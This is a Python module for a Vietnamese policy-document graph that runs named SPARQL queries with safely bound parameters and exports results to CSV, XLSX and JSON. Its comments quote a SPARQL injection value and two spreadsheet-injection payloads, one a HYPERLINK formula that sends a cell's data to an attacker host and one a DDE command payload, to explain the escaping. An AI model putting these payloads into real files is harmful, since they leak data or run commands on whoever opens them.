"""Named SPARQL queries from ``queries/*.rq``: safe parameters, three output formats.

Each ``.rq`` file starts with a comment header that is the query's public
interface::

    # description: Documents that implement a document … / Văn bản triển khai …
    # param: doc ?root required — the document at the top: symbol or IRI
    # columns: doc number type issuer date implements depth

Parameters are bound as RDF terms written by pyoxigraph into a VALUES block at the top
of the outermost WHERE group, never pasted into the query text as strings, so a value such
as ``x" } DROP ALL #`` cannot change the query.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import unicodedata
from dataclasses import dataclass, field
from pathlib import Path

import pyoxigraph as ox

from .naming import fold, short_form
from .resources import QUERY_DIR
from .store import select

PREFIXES = {
    "eli": "http://data.europa.eu/eli/ontology#",
    "pg": "https://w3id.org/policy-graph/ontology#",
    "skos": "http://www.w3.org/2004/02/skos/core#",
    "pgv": "https://w3id.org/policy-graph/vocab/",
}
_PARAM_LINE = re.compile(
    r"^(?P<name>[\w-]+)(?:\s+\?(?P<var>\w+))?\s+\(?(?P<need>required|optional)\)?\s*[—-]+\s*(?P<doc>.*)$"
)


class QueryError(Exception):
    """A problem the user can fix: unknown query, missing or unresolvable parameter, bad SPARQL."""


class UnknownQuery(QueryError):
    """No ``queries/NAME.rq`` for the name asked."""


@dataclass
class Param:
    name: str
    variable: str
    required: bool
    description: str


@dataclass
class NamedQuery:
    name: str
    description: str
    columns: list[str]
    params: list[Param]
    text: str
    notes: list[str] = field(default_factory=list)

    def param(self, name: str) -> Param | None:
        return next((p for p in self.params if p.name == name), None)


@dataclass
class QueryResult:
    columns: list[str]
    rows: list[dict[str, ox.NamedNode | ox.Literal | ox.BlankNode | None]]


def load_query(path: Path) -> NamedQuery:
    text = path.read_text(encoding="utf-8")
    header: dict[str, list[str]] = {}
    for line in text.splitlines():
        if not line.startswith("#"):
            break
        key, _, value = line[1:].strip().partition(":")
        header.setdefault(key.strip(), []).append(value.strip())
    params = []
    for line in header.get("param", []):
        match = _PARAM_LINE.match(line)
        if not match:
            raise QueryError(f"{path.name}: dòng tham số không hợp lệ (bad param line): {line}")
        params.append(
            Param(
                match["name"],
                match["var"] or match["name"],
                match["need"] == "required",
                match["doc"].strip(),
            )
        )
    return NamedQuery(
        name=path.stem,
        description=" ".join(header.get("description", [""])),
        columns=" ".join(header.get("columns", [""])).split(),
        params=params,
        text=text,
        notes=header.get("note", []),
    )


def list_queries(query_dir: Path = QUERY_DIR) -> list[NamedQuery]:
    return [load_query(p) for p in sorted(query_dir.glob("*.rq"))]


def get_query(name: str, query_dir: Path = QUERY_DIR) -> NamedQuery:
    path = query_dir / f"{name}.rq"
    if not path.is_file():
        known = ", ".join(q.name for q in list_queries(query_dir))
        raise UnknownQuery(f"không có truy vấn '{name}' (unknown query); có sẵn (available): {known}")
    return load_query(path)


# ------------------------------------------------------------ parameters


def resolve_document(store: ox.Store, value: str) -> ox.NamedNode:
    """A document parameter as people write it: an IRI, '29-NQ/TW', '214/KH-UBND', 'Nghị quyết 29'."""
    if re.match(r"^https?://", value):
        return ox.NamedNode(value)
    by_iri = _by_relative_iri(store, value)
    exact = by_iri or _printed_exactly(store, value)
    if len(exact) == 1:
        return ox.NamedNode(exact[0])
    symbols: dict[str, set[str]] = {}
    printed: dict[str, str] = {}  # folded symbol → as the graph prints it, for suggestions
    for row in select(
        store,
        "SELECT DISTINCT ?doc ?symbol WHERE { ?doc eli:id_local ?symbol }",
        prefixes=PREFIXES,
    ):
        folded = fold(row["symbol"].value)
        symbols.setdefault(folded, set()).add(row["doc"].value)
        printed.setdefault(folded, row["symbol"].value)
    matches = (
        by_iri
        or sorted(symbols.get(fold(value), ()))
        or sorted(symbols.get(fold(_symbol_in(value)), ()))
        or _most_referenced(store, _by_type_and_number(store, value))
    )
    if not matches:
        raise QueryError(
            f"không tìm thấy văn bản '{value}' (no document matches '{value}')" + _suggestions(value, printed)
        )
    if len(matches) > 1:
        listed = "\n  ".join(matches)
        raise QueryError(
            f"'{value}' khớp nhiều văn bản (matches several documents); hãy dùng IRI:\n  {listed}"
        )
    return ox.NamedNode(matches[0])


def _printed_exactly(store: ox.Store, value: str) -> list[str]:
    """The documents whose symbol is printed exactly as ``value`` or the symbol inside it: one
    index lookup (0.1 ms).  Folding every symbol of the store (case, spaces, dashes) reads all of
    them: 250 ms on the 10x synthetic corpus (22,854 symbols), and it grows with the corpus; it
    stays the way for what is not printed as the graph prints it, and for a symbol that several
    documents print."""
    written = {unicodedata.normalize("NFC", value).strip(), _symbol_in(value)} - {""}
    listed = " ".join(str(ox.Literal(text)) for text in sorted(written))
    rows = select(
        store,
        f"SELECT DISTINCT ?doc WHERE {{ VALUES ?symbol {{ {listed} }} ?doc eli:id_local ?symbol }}",
        prefixes=PREFIXES,
    )
    return sorted(row["doc"].value for row in rows)


# The symbol inside a name as the UI and the documents print it: "Nghị quyết số 29-NQ/TW" → 29-NQ/TW.
_SYMBOL_IN_TEXT = re.compile(r"\d[\w.]*[-/][\w./-]*")


def _symbol_in(value: str) -> str:
    found = _SYMBOL_IN_TEXT.search(unicodedata.normalize("NFC", value))
    return found.group(0) if found else ""


def _by_relative_iri(store: ox.Store, value: str) -> list[str]:
    """The relative IRI the CLI's tables print (``eli/vn/nq/2022/29-tw``), under whatever base."""
    path = value.strip().lstrip("/")
    if not path.startswith("eli/") or any(c in path for c in ' <>"{}|^`'):
        return []
    tail = str(ox.Literal("/" + path))  # serialised by pyoxigraph: no way out of the literal
    rows = select(
        store,
        f"SELECT DISTINCT ?doc WHERE {{ ?doc eli:type_document ?t FILTER(STRENDS(STR(?doc), {tail})) }}",
        prefixes=PREFIXES,
    )
    return sorted({row["doc"].value for row in rows})


def _suggestions(value: str, printed: dict[str, str]) -> str:
    """'; gần giống (closest): 29-NQ/TW, 28-CTr/TU' from the symbols the store holds."""
    import difflib

    wanted = fold(_symbol_in(value) or value)
    close = difflib.get_close_matches(wanted, list(printed), n=5, cutoff=0.6)
    return f"; gần giống (closest): {', '.join(printed[c] for c in close)}" if close else ""


def _most_referenced(store: ox.Store, candidates: list[str]) -> list[str]:
    """A short form ("Nghị quyết 29") names the document people mean: when one candidate is
    cited or implemented far more often (29-NQ/TW: 30 mentions; Quảng Nam's 29-NQ/TU: 1),
    take it; otherwise leave the choice to the user."""
    if len(candidates) < 2:
        return candidates
    counts: dict[str, int] = {}
    for iri in candidates:
        rows = select(
            store,
            f"SELECT (COUNT(*) AS ?n) WHERE {{ VALUES ?doc {{ {ox.NamedNode(iri)} }} ?c pg:citedDocument ?doc }}",
            prefixes=PREFIXES,
        )
        counts[iri] = sum(int(row["n"].value) for row in rows)
    ranked = sorted(candidates, key=lambda iri: -counts[iri])
    return ranked[:1] if counts[ranked[0]] >= 3 * max(1, counts[ranked[1]]) else candidates


def _by_type_and_number(store: ox.Store, value: str) -> list[str]:
    short = short_form(value)
    slug = short.type_slug if short else None
    if short is None or slug is None:
        return []
    number = ox.Literal(short.number)
    type_node = ox.NamedNode(f"{PREFIXES['pgv']}document-type/{slug}")
    rows = select(
        store,
        f"SELECT DISTINCT ?doc WHERE {{ VALUES (?n ?t) {{ ({number} {type_node}) }} "
        f"?doc eli:number ?n ; eli:type_document ?t }}",
        prefixes=PREFIXES,
    )
    return sorted(row["doc"].value for row in rows)


def resolve_agencies(store: ox.Store, value: str) -> list[ox.NamedNode]:
    """An agency by IRI, or by name/alias: exact (case-insensitive) first, then substring."""
    if re.match(r"^https?://", value):
        return [ox.NamedNode(value)]
    rows = list(
        select(
            store,
            "SELECT DISTINCT ?a ?l WHERE { ?a a org:Organization ; skos:prefLabel|skos:altLabel ?l }",
            prefixes={**PREFIXES, "org": "http://www.w3.org/ns/org#"},
        )
    )
    wanted = fold(value)
    exact = sorted({r["a"].value for r in rows if fold(r["l"].value) == wanted})
    found = exact or sorted({r["a"].value for r in rows if wanted in fold(r["l"].value)})
    if not found:
        raise QueryError(f"không tìm thấy cơ quan '{value}' (no agency matches '{value}')")
    return [ox.NamedNode(iri) for iri in found]


def date_param(value: str) -> ox.Literal:
    """'2025' → 2025-12-31; '2025-06-30' or '30/6/2025' → that day."""
    value = value.strip()
    # Python's own words ('Invalid isoformat string', 'month must be in 1..12') are English only
    # and name Python's format: the user is told in both languages what to write instead.
    try:
        if re.fullmatch(r"[0-9]{4}", value):
            day = dt.date(int(value), 12, 31)
        elif re.fullmatch(r"[0-9]{1,2}/[0-9]{1,2}/[0-9]{4}", value):
            d, m, y = map(int, value.split("/"))
            day = dt.date(y, m, d)
        elif re.fullmatch(r"[0-9]{4}-[0-9]{2}-[0-9]{2}", value):
            day = dt.date.fromisoformat(value)
        else:
            raise QueryError(
                f"'{value}' không phải năm hay ngày (not a year or a date): hãy viết yyyy-mm-dd, "
                "dd/mm/yyyy hoặc năm yyyy (write yyyy-mm-dd, dd/mm/yyyy or a year yyyy)"
            )
    except ValueError as err:
        raise QueryError(
            f"'{value}' không phải năm hay ngày (not a year or a date): ngày này không có trong lịch "
            "(no such day in the calendar)"
        ) from err
    return ox.Literal(day.isoformat(), datatype=ox.NamedNode("http://www.w3.org/2001/XMLSchema#date"))


def bind(store: ox.Store, query: NamedQuery, values: dict[str, str]) -> list[dict[ox.Variable, object]]:
    """Turn user strings into RDF terms; several agencies mean several runs."""
    unknown = set(values) - {p.name for p in query.params}
    if unknown:
        raise QueryError(
            f"tham số không có trong '{query.name}' (unknown parameter): {', '.join(sorted(unknown))}"
        )
    runs: list[dict[ox.Variable, object]] = [{}]
    for param in query.params:
        value = values.get(param.name)
        if value is None or value == "":
            if param.required:
                raise QueryError(f"thiếu tham số '{param.name}' (missing parameter): {param.description}")
            continue
        terms = _terms_for(store, param.name, value)
        runs = [{**run, ox.Variable(param.variable): term} for run in runs for term in terms]
    return runs


def _terms_for(store: ox.Store, name: str, value: str) -> list:
    if name == "agency":
        return resolve_agencies(store, value)
    if name in ("until", "today"):
        return [date_param(value)]
    if name == "doc":
        return [resolve_document(store, value)]
    if re.match(r"^https?://", value):
        return [ox.NamedNode(value)]
    return [ox.Literal(value)]


_OUTER_WHERE = re.compile(r"\bWHERE\s*\{", re.IGNORECASE)


def with_values(query: NamedQuery, runs: list[dict[ox.Variable, object]]) -> str:
    """The query text with its bound parameters written as a VALUES block at the top of the
    outermost WHERE group, for people who want to see (and edit) what runs.  The terms are
    serialised by pyoxigraph, so a value cannot break out of its literal or IRI; the answers
    are those of substitution because every parameter is used in that outermost group."""
    variables = sorted({v.value for run in runs for v in run})
    if not variables:
        return query.text
    rows = " ".join(
        "("
        + " ".join(str(run[ox.Variable(v)]) if ox.Variable(v) in run else "UNDEF" for v in variables)
        + ")"
        for run in runs
    )
    block = f"VALUES ({' '.join('?' + v for v in variables)}) {{ {rows} }}"
    match = _OUTER_WHERE.search(query.text)
    if match is None:
        raise QueryError(f"{query.name}.rq: không có WHERE {{ (no WHERE group to bind parameters in)")
    return f"{query.text[: match.end()]}\n  {block}{query.text[match.end() :]}"


_ENDS_PAGED = re.compile(r"\b(LIMIT|OFFSET)\s+\d+\s*$", re.IGNORECASE)


# A line "# page" inside a query marks the subquery that gives its rows in their order, one row
# each (documents.rq): a page is cut there, before the labels are read, instead of at the end.
# Parameters are bound in the outer group, which the subquery does not see: with parameters bound,
# the page is cut at the end.
_PAGE_MARK = re.compile(r"^[ \t]*# page[ \t]*$", re.MULTILINE)


def paged(text: str, limit: int | None = None, offset: int = 0, inside: bool = True) -> str:
    """The query with ``LIMIT``/``OFFSET``: one page of its rows, in its order.  At the end,
    Oxigraph still evaluates and sorts every row of an ordered listing, and a page saves turning
    the others into Python and printing them (10x synthetic corpus, citations: 6.5 → 5.3 s of
    CPU); at a ``# page`` line it reads the page's rows only (documents: 1.75 → 0.2 s)."""
    if limit is None and not offset:
        return text
    if (limit is not None and limit < 0) or offset < 0:
        raise QueryError("--limit và --offset không được âm (limit and offset cannot be negative)")
    if _ENDS_PAGED.search(text.rstrip()):
        raise QueryError("truy vấn đã có LIMIT/OFFSET (the query already ends with LIMIT/OFFSET)")
    page = ("" if limit is None else f" LIMIT {limit}") + (f" OFFSET {offset}" if offset else "")
    if inside and _PAGE_MARK.search(text):
        return _PAGE_MARK.sub(lambda _: page, text, count=1)
    return f"{text.rstrip()}\n{page.strip()}\n"


def run_query(
    store: ox.Store,
    name: str,
    values: dict[str, str] | None = None,
    query_dir: Path = QUERY_DIR,
    limit: int | None = None,
    offset: int = 0,
) -> QueryResult:
    """``limit``/``offset``: one page of the rows (the query's order), for listings too long to read."""
    query = get_query(name, query_dir)
    # Parameters go in as a VALUES block, not as Oxigraph substitutions: the engine applies
    # substitutions after evaluating the whole pattern (provenance: 26.6 s → 0.9 ms at 6 M quads).
    runs = bind(store, query, values or {})
    text = paged(with_values(query, runs) if any(runs) else query.text, limit, offset, inside=not any(runs))
    try:
        solutions = select(store, text)
    except SyntaxError as err:
        raise QueryError(f"{query.name}.rq: lỗi SPARQL (SPARQL error): {err}") from err
    variables = [v.value for v in solutions.variables]
    # a solution iterates over its values in the order of its variables (unbound: None); zipping
    # them is ≈ 10 % faster than looking each one up by name (6,783 rows of citations: 40 ms)
    rows = [dict(zip(variables, solution, strict=True)) for solution in solutions]
    columns = query.columns or (list(rows[0]) if rows else [])
    return QueryResult(columns=columns, rows=rows)


# ------------------------------------------------------------ formats


def term_text(term) -> str:
    if term is None:
        return ""
    return unicodedata.normalize("NFC", term.value)


def to_csv(result: QueryResult) -> str:
    """RFC 4180 CSV opening with a UTF-8 byte-order mark: without it Excel on Windows reads the
    file as the local code page and shows Vietnamese as mojibake."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(result.columns)
    for row in result.rows:
        writer.writerow([_csv_text(term_text(row.get(c))) for c in result.columns])
    return out.getvalue()


# A CSV field Excel evaluates as a formula when it opens with one of these (document text is
# anyone's: '=HYPERLINK(…)'); an apostrophe in front makes it text (OWASP ASVS 1.2.10).  '+' and
# '-' too (stop 19: '+HYPERLINK("http://attacker/?d="&A1;"…")' was a live link and
# "-2+3+cmd|' /C calc'!A0" the classic DDE payload, both written as they were); a bullet such as
# '- Sở Tài chính chủ trì' showed as #NAME? in Excel for the same reason and now reads as written.
# A plain signed number ('-5', '+3,5') is a number, not a formula, and a sign alone (a task
# labelled '-') is a sign: both are left as they are.
_FORMULA_OPENERS = ("=", "@", "+", "-", "\t", "\r", "\x00")
_SIGNED_NUMBER = re.compile(r"[+-](?:\d+(?:[.,]\d+)*%?)?")


def _csv_text(text: str) -> str:
    if not text.startswith(_FORMULA_OPENERS) or _SIGNED_NUMBER.fullmatch(text):
        return text
    return "'" + text


_XSD = "http://www.w3.org/2001/XMLSchema#"


def _cell_value(term):
    """A spreadsheet cell: dates as dates, numbers as numbers, everything else as NFC text."""
    if term is None:
        return None
    if isinstance(term, ox.Literal) and term.datatype is not None:
        kind = term.datatype.value.removeprefix(_XSD)
        try:
            if kind == "date":
                return dt.date.fromisoformat(term.value)
            if kind in ("integer", "int", "long", "nonNegativeInteger"):
                return int(term.value)
            if kind in ("decimal", "double", "float"):
                return float(term.value)
        except ValueError:  # an ill-typed literal stays as the text it is
            pass
    return _NOT_IN_XLSX.sub("\ufffd", term_text(term))


# What a workbook's XML cannot hold: the C0 controls but tab, newline and carriage return, and
# U+FFFE/U+FFFF.  A document's text may carry one (an ESC in a title): openpyxl raised
# IllegalCharacterError and the whole export failed (a traceback from the CLI, a 500 from
# /tree?format=xlsx); each is now U+FFFD, as the reader writes a byte it cannot decode.
_NOT_IN_XLSX = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def to_xlsx(result: QueryResult, sheet: str = "policy-graph") -> bytes:
    """An Excel workbook of the rows: bold frozen header, widths fitted to the text (capped),
    dates formatted dd/mm/yyyy as Vietnamese readers write them."""
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = Workbook()
    ws = book.active
    ws.title = sheet[:31]
    ws.append(result.columns)
    for cell in ws[1]:
        cell.font = Font(bold=True)
    ws.freeze_panes = "A2"
    widths = [len(c) for c in result.columns]
    for row in result.rows:
        values = [_cell_value(row.get(c)) for c in result.columns]
        ws.append(values)
        for cell in ws[ws.max_row]:
            if cell.data_type == "f":  # openpyxl reads a text opening with '=' as a formula: it is text
                cell.data_type = "s"
        for i, value in enumerate(values):
            widths[i] = max(widths[i], 10 if isinstance(value, dt.date) else len(str(value or "")))
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, dt.date):
                cell.number_format = "dd/mm/yyyy"
    for i, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(i)].width = min(60, width + 2)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _json_term(term) -> dict | None:
    if term is None:
        return None
    if isinstance(term, ox.NamedNode):
        return {"type": "uri", "value": term.value}
    if isinstance(term, ox.BlankNode):
        return {"type": "bnode", "value": term.value}
    item = {"type": "literal", "value": unicodedata.normalize("NFC", term.value)}
    if term.language:
        item["xml:lang"] = term.language
    elif term.datatype and term.datatype.value != "http://www.w3.org/2001/XMLSchema#string":
        item["datatype"] = term.datatype.value
    return item


def to_json(result: QueryResult) -> str:
    """SPARQL 1.1 Query Results JSON."""
    bindings = [
        {c: t for c in result.columns if (t := _json_term(row.get(c))) is not None} for row in result.rows
    ]
    return json.dumps(
        {"head": {"vars": result.columns}, "results": {"bindings": bindings}}, ensure_ascii=False, indent=1
    )
